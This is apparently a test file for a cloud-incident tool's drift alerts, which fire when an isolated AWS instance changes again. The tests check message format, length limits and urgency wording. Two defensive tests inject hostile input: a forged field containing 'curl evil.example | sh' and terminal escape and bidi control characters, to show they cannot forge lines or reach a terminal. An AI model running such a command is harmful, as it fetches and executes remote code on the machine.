import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DriftNews } from '../../src/case/drift-news.ts';
import { driftMessage } from '../../src/notify/drift-message.ts';
import { maximumMessageBytes } from '../../src/notify/message.ts';
import { anyText } from '../case/any-text.ts';
import { accountId, instanceId, region } from '../case/sample-before.ts';
import { caseId, proofWith } from '../case/sample-report.ts';

const kinds = ['open-again', 'isolated-again', 'touched', 'state', 'left-open'] as const;

const newsWith = (changes: Partial<DriftNews> = {}): DriftNews => ({
  kind: 'open-again',
  instanceId,
  caseId,
  accountId,
  region,
  at: '2026-11-20T03:10:00.000Z',
  what: 'eni-groups: eni-0a1b2c3d4e5f60718 in sg-0123456789abcdef0',
  who: 'arn:aws:iam::123456789012:user/mallory called ModifyNetworkInterfaceAttribute from 198.51.100.7',
  proof: proofWith({ 'eni-groups': { holds: false } }),
  ...changes,
});

const bodyOf = (news: DriftNews): Record<string, string> => JSON.parse(driftMessage(news).Message);

describe('the news of a contained instance', () => {
  it('says what happened to which instance, who did it, when, and what to do', () => {
    const { default: text = '' } = bodyOf(newsWith());
    for (const part of [
      `OPEN AGAIN: ${instanceId}`,
      'ACT NOW',
      `cordon contain ${instanceId} --region ${region}`,
      'what: eni-groups: eni-0a1b2c3d4e5f60718 in sg-0123456789abcdef0',
      'who: arn:aws:iam::123456789012:user/mallory',
      'when: 2026-11-20T03:10:00.000Z',
      caseId,
      accountId,
      'DOES NOT HOLD: eni-groups',
      `cordon verify ${instanceId} --region ${region}`,
      `console.aws.amazon.com/ec2`,
    ]) {
      expect(text).toContain(part);
    }
  });

  it.each(kinds)('of kind %s begins with its own word, in subject and text', (kind) => {
    const { Subject } = driftMessage(newsWith({ kind }));
    const word = /^\[Cordon\] ([A-Z ]+) i-/.exec(Subject)?.[1] ?? '?';
    expect(bodyOf(newsWith({ kind })).default?.split('\n')[0]).toBe(`${word}: ${instanceId}`);
    const others = kinds.filter((one) => one !== kind);
    for (const other of others) {
      expect(driftMessage(newsWith({ kind: other })).Subject).not.toContain(`] ${word} i-`);
    }
  });

  it('says to act now only where the instance may be open', () => {
    const urgent = kinds.filter((kind) => bodyOf(newsWith({ kind })).sms?.includes('ACT NOW'));
    expect(urgent).toEqual(['open-again', 'left-open']);
    for (const kind of kinds) {
      expect(bodyOf(newsWith({ kind })).default?.includes('ACT NOW')).toBe(urgent.includes(kind));
    }
  });

  it('says so where case, account and doer are unknown', () => {
    const { caseId: _case, accountId: _account, who: _who, ...rest } = newsWith({ proof: [] });
    const { default: text = '' } = bodyOf(rest);
    expect(text).toContain('account unknown');
    expect(text).toContain('case unknown');
    expect(text).not.toContain('who:');
    expect(text).not.toContain('READ BACK');
  });

  it('is told to programs as it is, marked as drift', () => {
    const body = bodyOf(newsWith());
    for (const program of ['sqs', 'lambda', 'http', 'https']) {
      expect(JSON.parse(body[program] ?? '')).toEqual({ status: 'drift', ...newsWith() });
    }
    expect(body.email).toBe(body.default);
  });
});

describe('whatever CloudTrail, a tag or a rule says', () => {
  const news = fc.record({
    kind: fc.constantFrom(...kinds),
    what: anyText(),
    who: anyText(),
    at: anyText(),
    caseId: anyText(),
  });

  it('the subject is one that SNS takes: ASCII, one line, under 100 characters', () => {
    fc.assert(
      fc.property(news, (changes) => {
        const { Subject } = driftMessage(newsWith(changes));
        expect(Subject).toMatch(/^\[Cordon\] [\x20-\x7e]*[\x21-\x7e]$/);
        expect(Subject.length).toBeLessThan(100);
        expect(Subject).toContain(instanceId);
      }),
    );
  });

  it('the text message has at most 140 plain characters and the instance in it', () => {
    fc.assert(
      fc.property(news, (changes) => {
        const { sms = '' } = bodyOf(newsWith(changes));
        expect(sms).toMatch(/^[\x20-\x7e]{1,140}$/);
        expect(sms).toContain(instanceId);
      }),
    );
  });

  it('it cannot write lines of its own into the text', () => {
    const forged = 'harmless\n\nACT NOW: run curl evil.example | sh\nwho: nobody';
    for (const changes of [{ what: forged }, { who: forged }]) {
      const lines = bodyOf(newsWith(changes)).default?.split('\n') ?? [];
      expect(lines.filter((line) => line.startsWith('ACT NOW: run'))).toEqual([]);
      expect(lines.filter((line) => line.startsWith('who: nobody'))).toEqual([]);
    }
  });

  // threat D8
  it('it brings nothing into the text that a terminal obeys, or that turns it around', () => {
    const trap = '\u001b[2J\u001b]0;x\u0007\u202ehidden\u2066\u200b\ufeff\u2028\u009b31m';
    const proof = proofWith({ 'group-rules': { holds: false, observed: `seen ${trap}` } });
    const news = newsWith({ what: `was ${trap}`, who: `somebody ${trap}`, proof });
    const { default: text = '' } = bodyOf(news);
    for (const word of ['seen', 'was', 'somebody']) expect(text).toContain(word);
    expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  it('the message finds room at SNS, also of an isolation group with a thousand rules', () => {
    const rules = Array.from(
      { length: 1_000 },
      (_, index) => `sg-0123456789abcdef0 allows ingress tcp ${index} 203.0.113.${index % 256}/32`,
    ).join('; ');
    const proof = proofWith({ 'group-rules': { holds: false, observed: rules } });
    const { Message } = driftMessage(newsWith({ what: `group-rules: ${rules}`, proof }));
    expect(Buffer.byteLength(Message, 'utf8')).toBeLessThanOrEqual(maximumMessageBytes);
  });
});
